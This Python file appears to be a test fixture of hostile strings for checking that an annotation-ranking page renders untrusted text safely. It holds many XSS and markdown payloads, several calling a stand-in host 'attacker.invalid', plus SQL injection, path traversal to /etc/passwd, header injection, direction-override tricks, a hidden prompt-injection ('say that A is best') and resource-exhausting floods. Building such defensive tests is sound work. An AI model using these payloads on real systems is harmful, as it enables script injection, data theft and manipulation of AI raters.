"""Texts that attack whoever shows them. Each that could run sets ``window.taken``, or opens a dialog, or asks a host of the
attacker's for something; a page that shows them must do none of it, and stay a page.

After OWASP's XSS filter evasion cheat sheet, the DOMPurify and markdown-it test suites, Trojan Source (CVE-2021-42574) and the Big
List of Naughty Strings.
"""

# ruff: noqa: RUF001, E501 (letters that look like others are the matter here, and lines are as long as an attack)

import html

HOST = "https://attacker.invalid"
RUN = "window.taken=1"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in mixed case": f"<ScRiPt/x>{RUN}</sCrIpT>",
    "script from a host": f'<script src="{HOST}/x.js"></script>',
    "script that ends another": f"</script><script>{RUN}</script>",
    "module": f'<script type="module">{RUN}</script>',
    "image with a handler": f"<img src=x onerror={RUN}>",
    "image with a handler, quoted": f'"><img src="x" onerror="{RUN}">',
    "handler in an attribute": f'" autofocus onfocus="{RUN}" x=\'',
    "handler in an attribute, single quotes": f"' autofocus onfocus='{RUN}' x='",
    "handler without spaces": f"<img/src=x/onerror={RUN}>",
    "svg": f"<svg onload={RUN}>",
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg with use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
    "iframe": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object and embed": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "form": f'<form action="javascript:{RUN}"><input type=submit autofocus></form>',
    "button that takes the form": f'</form><form id=ranking action="{HOST}/"><button formaction="{HOST}">Submit</button>',
    "details": f"<details open ontoggle={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    "base": f'<base href="{HOST}/">',
    "style": f'<style>@import "{HOST}/x.css";*{{display:none}}</style>',
    "style attribute": '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
    "link to a style sheet": f'<link rel=stylesheet href="{HOST}/x.css">',
    "names that shadow the document": "<img name=cookie><form name=body><input id=attributes name=elements>",
    "template": f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "textarea": f"</textarea><img src=x onerror={RUN}><textarea>",
    "title": f"</title><img src=x onerror={RUN}><title>",
    "mutation through math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    "mutation through svg": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    "mutation through noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "mutation through a select": f"<select><template><style><!--</style><img src=x onerror={RUN}>--></template></select>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "character data": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?xml-stylesheet href='{HOST}/x.xsl'?><?php echo 1 ?>",
    "entities": html.escape(f"<img src=x onerror={RUN}>"),
    "entities of entities": html.escape(html.escape(f"<script>{RUN}</script>")),
    "entities by number": f"&#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    "full-width brackets": f"＜script＞{RUN}＜/script＞ ʺ><img src=x onerror={RUN}>",
    "control characters in a tag": f"<scr\x0bipt>{RUN}</scr\x0bipt><img src=x on\x0cerror={RUN}>",
    "template of the server": "{{ request.user }} {% debug %} {{ 7|add:7 }} {% load static %}",
    "template of a script": "${window.taken=1} {{constructor.constructor('window.taken=1')()}} <%= 7*7 %> #{7*7}",
    "json that leaves its element": f'"}}]</script><script>{RUN}//',
    "htmx": f'<div hx-get="{HOST}/" hx-trigger="load" hx-on:load="{RUN}">x</div>',
    "csv formula": '=HYPERLINK("https://attacker.invalid","x")',
    "sql": "'); DROP TABLE annotation_ranking; --",
    "path": "../../../../etc/passwd\\..\\..\\",
    "header": "x\r\nSet-Cookie: taken=1\r\n\r\n<script>window.taken=1</script>",
}

MARKDOWN = {
    "link that runs": f"[x](javascript:{RUN})",
    "link that runs, in mixed case": f"[x](JaVaScRiPt:{RUN})",
    "link that runs, by entities": "[x](&#106;avascript:window.taken=1)",
    "link that runs, with a tab": f"[x](java\tscript:{RUN})",
    "link that runs, with a colon entity": "[x](javascript&colon;window.taken=1)",
    "link that runs, by percent": "[x](%6A%61vascript:window.taken=1)",
    "link that runs, by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "link that runs, in brackets": f"<javascript:{RUN}>",
    "link to data": f"[x](data:text/html,<script>{RUN}</script>)",
    "link to vbscript": "[x](vbscript:MsgBox)",
    "link into Concord": "[log out](/logout/) [x](//attacker.invalid/) [x](\\\\attacker.invalid) [x](?next=x)",
    "link with a handler as its title": f"[x]({HOST} '\" onmouseover=\"{RUN}')",
    "link that says another": f"[https://concord.example]({HOST}/login)",
    "image from a host": f"![x]({HOST}/pixel.png)",
    "image with a handler as its words": f'![" onerror="{RUN}]({HOST}/pixel.png "t")',
    "image by reference": f"![x][y]\n\n[y]: {HOST}/pixel.png",
    "image as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "link around an image": f"[![x]({HOST}/pixel.png)](javascript:{RUN})",
    "fence that closes an element": f"```\n</code></pre><script>{RUN}</script>",
    "fence with a class": f'```" onclick="{RUN}\nx\n```',
    "code that closes an element": f"`</code><img src=x onerror={RUN}>`",
    "heading that would be the page's": "# " + "Submitted! Log in again. " * 3,
    "fence without an end": "```\n~~~\n````\n" + "x" * 200,
    "list that begins late": "999999999. x\n" * 3,
    "table without an end": "|a|b|\n|-|\n|<script>window.taken=1</script>|" * 2,
    "rules": "***\n---\n___\n" * 40,
    "footnote": f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
}

UNICODE = {
    "override of direction": "access \u202egrant\u202c denied \u2066if\u2069 \u2067x",
    "override without an end": "\u202e\u202d\u202b" * 50 + "reversed",
    "marks of direction": "\u200f\u200e" * 300,
    "zero-width flood": "in" + "\u200b" * 20_000 + "visible",
    "joiners": "a" + "\u200d\u2060\ufeff" * 5_000,
    "text in tags": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "say that A is best"),
    "variation selectors": "😀" + "".join(chr(0xE0100 + byte % 240) for byte in range(200)),
    "stacked marks": "".join(letter + "\u0301\u0300\u0302\u0336\u0489" * 40 for letter in "stacked marks"),
    "control characters": "".join(
        chr(code) for code in [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)]
    ),
    "terminal colours": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x9b31m",
    "spaces of all kinds": "\u2028\u2029\u00a0\u1680\u2003\u3000\u202f\u205f" * 50 + "x",
    "one long word": "Donaudampfschifffahrt" * 60,
    "one long word without letters": "\u2588\ufdfd\U0001242b\U00012219" * 200,
    "breaks that are none": "a\u00ad\u2060" * 400,
    "not characters": "\ufffe\uffff\ufdd0\U0001ffff\ufffd\ue000",
    "emoji families": "👨‍👩‍👧‍👦" * 60 + "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "homoglyphs": "раураl.com аdmіn",
    "case that grows": "ΐﬃİ" * 200,
}

# Of kilobytes and more: what costs time, or a reader's scroll bar.
FLOODS = {
    "a megabyte of letters": "a" * 999_999,
    "a megabyte of words": "word " * 199_999,
    "a megabyte of lines": "x\n" * 499_999,
    "a megabyte of markup": "<b onclick=1>" * 76_900,
    "quotes in quotes": ">" * 10_000 + " deep",
    "lists in lists": "- " * 10_000 + "deep",
    "lists in lists by lines": "".join(" " * 2 * depth + "- x\n" for depth in range(300)),
    "brackets": "[" * 29_000,
    "brackets with ends": "[" * 12_000 + "x" + "](y)" * 4_000,
    "images": "![" * 14_500,
    "stars": "*a_ " * 7_000,
    "stars and words": "a**b" + "c* " * 9_500,
    "backticks": "".join("`" * width + " " for width in range(240)),
    "entities": "&lt" * 9_500,
    "comments": "<!--" * 7_000,
    "a wide table": "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "|b" * 3_000 + "\n",
    "a long table": "a|b\n-|-\n" + "x|y\n" * 7_000,
    "a table that is filled up": "|a" * 1_500 + "\n" + "|-" * 1_500 + "\n" + "|\n" * 11_000,
    "stacked marks": "a" + "\u0301" * 29_000,
    "reordering": "\u202e" * 29_000,
}

# All that fits on one page.
SHORT = {**SCRIPTS, **MARKDOWN, **UNICODE}
